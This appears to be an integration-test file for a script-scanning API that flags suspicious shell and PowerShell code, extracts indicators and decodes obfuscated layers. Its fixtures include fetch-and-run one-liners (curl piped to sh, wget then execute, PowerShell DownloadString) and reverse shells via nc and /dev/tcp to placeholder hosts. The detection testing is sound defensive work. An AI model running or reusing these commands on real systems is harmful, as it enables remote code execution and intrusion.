import { createHash } from 'node:crypto'
import { gzipSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { importRecipe } from '../../src/main/engine/file/decode/decode-recipe.ts'
import { operationNamed } from '../../src/main/parts/operations.ts'
import { type LocalHost, type Reply, startLocalHost } from './local-host.ts'

/** Scripts over HTTP, as clients send them: submitted as JSON, read by digest, explained. */

let host: LocalHost
beforeAll(async () => {
  host = await startLocalHost()
})
afterAll(() => host.stop())

const path = '/api/v1/scan/file/bash'
const digest = (text: string | Uint8Array) => createHash('sha256').update(text).digest('hex')
const base64 = (text: string | Uint8Array) => Buffer.from(text).toString('base64')
const submit = (body: object | string) => host.ask({ method: 'POST', path, body })
const report = (sha256: string) => host.ask({ path: `${path}?sha256=${sha256}` })
const explain = (sha256: string) => host.ask({ method: 'POST', path: `${path}/ai?sha256=${sha256}` })

/** Checks an answer against the operation's schema, with nothing that the schema does not name missing. */
function expectShape(name: string, reply: Reply): void {
  expect(reply).toMatchObject({ status: 200 })
  expect(operationNamed(name)?.output().parse(reply.body)).toEqual(reply.body)
}

type Report = {
  readonly file: Record<string, unknown>
  readonly suspicious: readonly Record<string, unknown>[]
  readonly iocs: Record<string, readonly { readonly value: string; readonly link: string }[]>
  readonly ioc_total: number
  readonly truncated: boolean
  readonly language: string
  readonly decoded: readonly { readonly text: string; readonly recipe: unknown; readonly line: number }[]
}
const reportOf = async (sha256: string) => (await report(sha256)).body as Report

const hidden = 'curl -s http://second.kestrel-sample.com/run | sh'
const script = [
  '#!/bin/bash',
  '# see http://first.kestrel-sample.com/help',
  `echo ${base64(gzipSync(hidden))} | base64 -d | gunzip | bash`,
  '',
].join('\n')

describe('a script that a client submits', () => {
  test('is kept under its digest and read at once: its file, what is suspicious, its indicators, its layers', async () => {
    const sent = await submit({ content_b64: base64(script), filename: 'install.sh' })
    expectShape('script.submit', sent)
    expect(sent.body).toMatchObject({ status: 'success', sha256: digest(script) })
    const read = await report(digest(script))
    expectShape('script.readReport', read)
    const { file, suspicious, iocs, ioc_total, truncated, language, decoded } = read.body as Report
    expect(file).toEqual({ filename: 'install.sh', sha256: digest(script), size: script.length, lines: 3 })
    expect({ language, truncated }).toEqual({ language: 'shell', truncated: false })
    expect(suspicious).toContainEqual(
      expect.objectContaining({
        severity: expect.stringMatching(/^(?:high|critical)$/),
        title: expect.any(String),
        line: 3,
        snippet: expect.any(String),
        technique: expect.stringMatching(/^T\d{4}/),
      }),
    )
    for (const each of suspicious) {
      expect(each.detail).not.toBe('')
      expect([each.label, each.hint]).toEqual([each.title, each.detail])
    }
    expect(Object.keys(iocs)).toEqual(['ipv4', 'ipv6', 'domain', 'url', 'email', 'hash', 'crypto', 'cve'])
    expect(iocs.url?.map(({ value }) => value)).toEqual([
      'http://first.kestrel-sample.com/help',
      'http://second.kestrel-sample.com/run',
    ])
    expect(iocs.url?.[0]?.link).toBe('/url?q=http%3A%2F%2Ffirst.kestrel-sample.com%2Fhelp')
    expect(ioc_total).toBe(Object.values(iocs).flat().length)
    expect(decoded.map(({ text }) => text)).toContain(hidden)
  })

  test('has layers that are recipes of CyberChef', async () => {
    const layer = (await reportOf(digest(script))).decoded.find(({ text }) => text === hidden)
    expect(layer?.line).toBe(3)
    expect(layer?.recipe).toEqual([
      { op: 'From Base64', args: ['A-Za-z0-9+/=', true, false] },
      { op: 'Gunzip', args: [] },
    ])
    expect(importRecipe(JSON.stringify(layer?.recipe))).toHaveProperty('steps')
  })

  test('shows what was sent and is the same file for the file operations', async () => {
    const { status, body } = await host.ask({
      path: `/api/v1/scan/file/results?sha256=${digest(script)}`,
    })
    expect(status).toBe(200)
    expect(body).toMatchObject({ file: { filename: 'install.sh', sha256: digest(script) } })
  })

  test.each([
    ['without a name', undefined, 'script'],
    ['with an empty name', '', 'script'],
    ['from standard input', 'stdin', 'stdin'],
    ['with a name of another kind', 'notes.txt', 'notes.txt'],
  ])('%s is read as a script all the same', async (name, filename, shown) => {
    // no first line, no ending: only the client says that it is one
    const text = `wget http://${name.replaceAll(' ', '-')}.kestrel-sample.com/a -O /tmp/a; chmod +x /tmp/a; /tmp/a`
    await submit({ content_b64: base64(text), filename })
    const read = await report(digest(text))
    expectShape('script.readReport', read)
    const { file, suspicious, iocs } = read.body as Report
    expect(file.filename).toBe(shown)
    expect(suspicious.length).toBeGreaterThan(0)
    expect(iocs.url).toHaveLength(1)
  })

  test('in upper-case digests, line-wrapped Base64 and UTF-16 is the same', async () => {
    const wide = Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from(
        'iex (New-Object Net.WebClient).DownloadString("http://wide.kestrel-sample.com/a")',
        'utf16le',
      ),
    ])
    const wrapped = base64(wide).replace(/.{76}/g, '$&\n')
    const sent = await submit({ content_b64: wrapped, filename: 'a.ps1' })
    expect(sent.body).toMatchObject({ sha256: digest(wide) })
    const { language, iocs } = (await report(digest(wide).toUpperCase())).body as Report
    expect(language).toBe('powershell')
    expect(iocs.url?.map(({ value }) => value)).toEqual(['http://wide.kestrel-sample.com/a'])
  })

  test('without anything that a rule knows is not called harmless', async () => {
    await submit({ content_b64: base64('print(1)\n'), filename: 'one.py' })
    const { body } = await report(digest('print(1)\n'))
    expect(body).toMatchObject({ suspicious: [], ioc_total: 0, truncated: false, language: 'python' })
    expect((await explain(digest('print(1)\n'))).text).not.toMatch(/harmless|safe|clean/i)
  })
})

describe('a file that was uploaded before', () => {
  const content = 'nc -e /bin/sh 203.0.113.7 4444'

  test('becomes a script by its digest alone, in the body or in the query', async () => {
    const boundary = 'b-1'
    const form = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="note.txt"\r\n\r\n${content}\r\n--${boundary}--\r\n`
    await host.ask({
      method: 'POST',
      path: '/upload/file',
      headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
      body: form,
    })
    await host.window('files.open', { sha256: digest(content), waits: true })
    expect(await report(digest(content))).toMatchObject({ status: 404 })
    for (const ask of [
      () => submit({ sha256: digest(content) }),
      () => host.ask({ method: 'POST', path: `${path}?sha256=${digest(content)}` }),
    ]) {
      const reply = await ask()
      expectShape('script.submit', reply)
      expect(reply.body).toMatchObject({ sha256: digest(content) })
    }
    const { file, suspicious, iocs } = await reportOf(digest(content))
    expect(file).toMatchObject({ filename: 'note.txt', lines: 1 })
    expect(suspicious.length).toBeGreaterThan(0)
    expect(iocs.ipv4?.map(({ value }) => value)).toEqual(['203.0.113.7'])
  })

  test('while it is being analysed is read as a script, too', async () => {
    const text = 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'
    await submit({ content_b64: base64(text), filename: 'x.txt' })
    await submit({ sha256: digest(text) })
    expect((await reportOf(digest(text))).suspicious.length).toBeGreaterThan(0)
  })
})

describe('an explanation', () => {
  test('is prose by rules that says so, and the same from memory the second time', async () => {
    const first = await explain(digest(script))
    expectShape('script.explain', first)
    const { explanation } = first.body as { explanation: string }
    expect(first.body).toEqual({
      sha256: digest(script),
      explanation,
      cached: false,
      engine: 'local-static',
      origin: 'local',
    })
    expect(explanation).toContain('derived from the text by rules, not by AI')
    expect(explanation).toContain('second.kestrel-sample.com')
    expect((await explain(digest(script))).body).toEqual({ ...(first.body as object), cached: true })
  })

  test.each([
    [
      'of a script that nobody submitted',
      'a'.repeat(64),
      'Not found: no script with this sha256 was submitted.',
    ],
    ['without a digest', '', 'Please provide sha256.'],
    ['of what is no digest', 'abc', expect.stringContaining('Provided sha256 is invalid')],
  ])('%s is refused with 400 in shape E1', async (_case, sha256, message) => {
    const { status, body } = await explain(sha256)
    expect({ status, body }).toEqual({ status: 400, body: { status: 'error', message } })
  })
})

describe('what is refused', () => {
  const e1 = (message: unknown) => ({ status: 400, body: { status: 'error', message } })
  test.each([
    ['no content', {}, e1('Please provide content_b64.')],
    ['empty content', { content_b64: '' }, e1('Please provide content_b64.')],
    ['padding only', { content_b64: '==' }, e1('Please provide content_b64.')],
    ['no Base64', { content_b64: '%%%' }, e1('Provided content_b64 is invalid: it is not Base64.')],
    ['a number', { content_b64: 7 }, e1('Provided content_b64 is invalid: it must be a text.')],
    ['a body that is no JSON', '{', e1(expect.any(String))],
    [
      'a script above 10 MB',
      { content_b64: 'A'.repeat(Math.ceil((10 * 2 ** 20 + 3) / 3) * 4) },
      e1(expect.stringContaining('Provided content_b64 is invalid')),
    ],
    [
      'a digest of nothing here',
      { sha256: 'b'.repeat(64) },
      { status: 404, body: { error: 'Not found: no file with this sha256 was sent.' } },
    ],
  ])('%s', async (_case, body, expected) => {
    const reply = await submit(body)
    expect(reply).toMatchObject(expected)
    expect(reply.text).not.toMatch(/limit/i)
  })

  test('a report of a digest that is not here is not found', async () => {
    expect(await report('c'.repeat(64))).toMatchObject({
      status: 404,
      body: { error: 'Not found: no script with this sha256 was submitted.' },
    })
    expect(await report('')).toMatchObject(e1('Please provide sha256.'))
  })

  test('bytes that are no text are kept, and never said to be a script', async () => {
    const bytes = Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 62, 0])
    expect(await submit({ content_b64: base64(bytes), filename: 'run.sh' })).toMatchObject({ status: 200 })
    expect(await report(digest(bytes))).toMatchObject({
      status: 404,
      body: { error: expect.stringMatching(/^Not found: this file was not read as a script/) },
    })
    expect(await explain(digest(bytes))).toMatchObject({ status: 400, body: { status: 'error' } })
  })

  test('keys without the permission', async () => {
    const { secret } = await host.makeKey('scan.lookup')
    for (const [method, at] of [
      ['GET', path],
      ['POST', path],
      ['POST', `${path}/ai`],
    ] as const) {
      const asked = `${at}?sha256=${digest(script)}`
      expect(await host.ask({ method, path: asked, authorization: `token ${secret}` })).toMatchObject({
        status: 403,
      })
      expect(await host.ask({ method, path: asked, authorization: null })).toMatchObject({ status: 401 })
    }
  })
})
